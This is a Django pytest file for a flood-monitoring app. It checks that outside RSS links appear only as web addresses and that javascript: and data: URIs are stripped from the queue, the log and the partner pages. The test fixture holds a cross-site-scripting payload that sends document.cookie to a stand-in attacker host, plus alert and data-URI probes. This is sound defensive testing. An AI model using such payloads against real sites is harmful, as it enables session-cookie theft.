"""A post's link comes from outside (an RSS <link>, an imported file): the watch room
renders it as a link only when it is a web address, never javascript: or data:."""

from __future__ import annotations

import pytest
from django.urls import reverse
from django.utils import timezone

from watch_rooms import rss_room

HOSTILE = "javascript:fetch('https://attacker.example/'+document.cookie)"
FINE = "https://www.vendee.gouv.fr/alerte"


@pytest.fixture
def room(org, members):
    from beffroi.watch import actions
    from beffroi.watch.models import Card

    coord = members["coordinator"]
    activation, source = rss_room(org, coord, name="Crue du Lay", source_name="Flux")
    cards = {}
    for i, url in enumerate((HOSTILE, FINE, " JavaScript:alert(1)", "data:text/html,<b>x</b>")):
        cards[url] = Card.objects.create(
            activation=activation,
            group_id=f"g{i}",
            source=source,
            source_kind="rss",
            external_id=f"x{i}",
            text=f"L'eau monte, message {i}",
            url=url,
            posted_at=timezone.now(),
        )
    _link, token = actions.create_partner_link(activation, label="COD 85", days=1, actor=coord)
    return activation, cards, token


def test_queue_gives_only_web_links(client, members, org, room):
    activation, cards, _token = room
    client.force_login(members["volunteer"])
    data = client.get(reverse("watch-queue", args=[org.slug, activation.pk])).json()
    urls = {c["id"]: c["url"] for c in data["cards"]}
    assert urls[cards[FINE].pk] == FINE
    for url, card in cards.items():
        if url != FINE:
            assert urls[card.pk] == "", url


def test_escalated_hostile_link_is_not_rendered(client, members, org, room):
    from beffroi.watch import actions

    activation, cards, token = room
    for card in cards.values():
        actions.escalate(card, actor=members["volunteer"], category="autre")
    client.force_login(members["coordinator"])
    pages = [
        client.get(reverse("watch-courante", args=[org.slug, activation.pk])),
        client.get(reverse("watch-courante-rows", args=[org.slug, activation.pk])),
        client.get(reverse("watch-partner", args=[token])),
    ]
    for response in pages:
        html = response.content.decode().lower()
        assert response.status_code == 200
        assert f'href="{FINE}"' in html
        assert "javascript:" not in html
        assert 'href="data:' not in html
